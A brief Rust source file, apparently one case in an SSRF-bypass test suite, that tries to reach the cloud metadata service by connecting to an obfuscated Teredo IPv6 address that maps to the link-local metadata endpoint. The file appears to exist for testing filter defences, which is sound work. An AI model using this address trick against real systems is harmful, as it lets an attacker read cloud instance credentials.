//! Asks the metadata service through Teredo.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(_to: String) -> Result<String> {
        connect3("[2001:0:1:1:1:1:5601:5601]:80").await
    }
}
